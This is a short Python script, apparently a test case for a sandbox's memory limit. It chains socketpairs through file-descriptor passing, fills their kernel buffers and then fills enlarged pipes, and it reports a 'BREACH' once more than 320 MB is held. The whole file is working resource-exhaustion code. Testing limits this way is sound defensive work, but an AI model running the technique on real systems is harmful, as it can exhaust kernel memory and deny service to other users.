# /// attack
# title = "fills the buffers of sockets and sends them away in one another, where they cost no descriptor; then of pipes"
# ///

# %%
import contextlib
import fcntl
import os
import socket

LIMIT = 320 << 20
block = bytes(1 << 16)
held = 0
kept = []


def filled():
    global held
    pair = socket.socketpair()
    for end in pair:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        end.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while held < LIMIT:
                held += end.send(block)
    return pair


with contextlib.suppress(OSError):
    carried = None
    while held < LIMIT:  # each message carries the socket in which the message before it waits
        ends = filled()
        here, there = socket.socketpair()
        socket.send_fds(here, [b"x"], [end.fileno() for end in (*ends, carried) if end is not None])
        carried = there
        kept = [carried]
with contextlib.suppress(OSError):
    while held < LIMIT:
        kept += filled()
with contextlib.suppress(OSError):
    kept = kept[:-8]
    while held < LIMIT:
        reader, writer = os.pipe()
        fcntl.fcntl(writer, 1031, 1 << 20)
        os.set_blocking(writer, False)
        held += os.write(writer, bytes(1 << 20))
if held >= LIMIT:
    raise SystemError(f"BREACH: {held >> 20} MB are held by the kernel, and 320 MB are the limit")
